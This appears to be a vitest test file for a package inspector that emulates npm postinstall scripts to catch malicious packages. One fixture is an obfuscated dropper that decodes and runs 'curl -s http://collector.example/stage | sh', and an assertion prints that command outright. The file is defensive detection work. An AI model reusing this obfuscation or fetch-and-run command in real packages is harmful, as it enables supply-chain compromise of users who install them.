import { afterAll, describe, expect, test } from "vitest";

import type { FakeVersion } from "../../test/fake-source.ts";
import { createFakeSource } from "../../test/fake-source.ts";
import { createExtractor } from "../extractor.ts";
import { createInspector } from "../create-inspector.ts";
import type { InspectorParts } from "../create-inspector.ts";
import type { Inspection } from "../inspection.ts";
import type { InspectOptions } from "../target.ts";
import { createPackageDetonator } from "./package-detonator.ts";
import type { PackageDetonator } from "./package-detonator.ts";

const now = Date.parse("2026-03-31T01:00:00Z");
const timeout = 60_000;
const detonator = createPackageDetonator({ threads: 0 });

afterAll(() => detonator.close());

/** The words of what it starts stand nowhere in it, and reading cannot know them: the home of the machine is the key. */
const unreadable = `const os = require("os");
const key = os.homedir().length > 0 ? 1 : 2;
const words = "dvsm!.t!iuuq;00dpmmfdups/fybnqmf0tubhf!}!ti";
let line = "";
for (const letter of words) line += String.fromCharCode(letter.charCodeAt(0) - key);
require("child_process").exec(line);
`;

function version(name: string, script: string, members: object = {}): FakeVersion {
  return {
    manifest: { name, version: "1.0.0", scripts: { postinstall: "node setup.js" }, ...members },
    files: [{ path: "setup.js", content: script }],
    at: "2026-03-30T00:00:00Z",
  };
}

async function inspect(
  spec: string,
  versions: readonly FakeVersion[],
  parts: Partial<InspectorParts> = {},
  options: InspectOptions = {},
): Promise<Inspection> {
  const inspector = createInspector({
    registry: createFakeSource(versions),
    extract: createExtractor(),
    clock: { now: () => now },
    popularNames: ["express"],
    version: "1.2.3",
    detonator,
    ...parts,
  });
  return await inspector.inspect({ kind: "spec", spec }, options);
}

function emulatedOf({ facts }: Inspection): unknown {
  return facts["emulated"];
}

describe("inspect, with an emulator", { timeout }, () => {
  test("blocks what an install script does that cannot be read, with the command and where it stands", async () => {
    const inspection = await inspect("dropper", [version("dropper", unreadable)]);

    expect(inspection.verdict).toBe("block");
    const finding = inspection.findings.find(({ id }) => id === "download-executed");
    expect(finding).toMatchObject({ strength: "decisive", location: { file: "setup.js", line: 6 } });
    expect(finding?.message).toContain("curl -s http://collector.example/stage | sh");
    expect(finding?.message).toContain("(postinstall), in all 3 worlds");
  });

  test("says what ran, in which worlds and how far, of a script that is let in", async () => {
    const inspection = await inspect("thanks", [version("thanks", "console.log('thank you');\n")]);

    expect(emulatedOf(inspection)).toMatchObject({
      emulator: expect.stringMatching(/^[0-9a-f]{16}$/) as unknown,
      triggers: [
        {
          kind: "install",
          name: "postinstall",
          worlds: [
            { name: "linux-laptop", ended: "rest", problem: null },
            { name: "darwin-laptop" },
            { name: "win32-laptop" },
          ],
          untried: [],
          coverage: 1,
        },
      ],
    });
  });

  test("runs the scripts of a dependency that a release newly brings", async () => {
    const parent: readonly FakeVersion[] = [
      { manifest: { name: "parent", version: "1.0.0" }, at: "2024-01-01T00:00:00Z" },
      {
        manifest: { name: "parent", version: "1.0.1", dependencies: { dropper: "^1.0.0" } },
        at: "2026-03-30T00:30:00Z",
      },
    ];

    const { facts } = await inspect("parent", [...parent, version("dropper", unreadable)]);

    expect(JSON.stringify(facts["dependencies"])).toContain('"id":"download-executed"');
  });

  test("tells of a script that ends with an error, and makes no unknown of it", async () => {
    const inspection = await inspect("broken", [version("broken", "undefinedName();\n")]);

    expect(inspection.verdict).not.toBe("unknown");
    expect(inspection.facts["gaps"]).toContainEqual(
      expect.stringContaining("In the emulator postinstall ended with an error on linux-laptop"),
    );
  });

  test("tells why nothing was run when the emulator fails, and judges what was read", async () => {
    const failing: PackageDetonator = {
      ...detonator,
      pending: 0,
      run: async () => await Promise.reject(new Error("the emulator ended over it")),
    };

    const inspection = await inspect("thanks", [version("thanks", "console.log(1);\n")], {
      detonator: failing,
    });

    expect(inspection.error).toBeUndefined();
    expect(inspection.verdict).not.toBe("unknown");
    expect(JSON.stringify(inspection.facts["evidence"])).toContain("the emulator ended over it");
  });

  test("runs nothing where that is not wanted, and says so", async () => {
    const inspection = await inspect("dropper", [version("dropper", unreadable)], {}, { isDetonated: false });

    expect(inspection.findings.map(({ id }) => id)).not.toContain("download-executed");
    expect(emulatedOf(inspection)).toBeNull();
    expect(inspection.facts["evidence"]).toMatchObject({ emulated: "unavailable: it was not to be run" });
  });

  test("runs nothing of a library of long standing that hides nothing", async () => {
    const manifest = { name: "plain", main: "index.js" };
    const files = [{ path: "index.js", content: "module.exports = 1;\n" }];
    const plain: readonly FakeVersion[] = [
      { manifest: { ...manifest, version: "1.0.0" }, files, at: "2020-01-01T00:00:00Z" },
      { manifest: { ...manifest, version: "1.0.1" }, files, at: "2021-01-01T00:00:00Z" },
    ];

    const inspection = await inspect("plain", plain);

    expect(emulatedOf(inspection)).toBeNull();
    expect(inspection.facts["evidence"]).toMatchObject({ emulated: "absent" });
  });
});
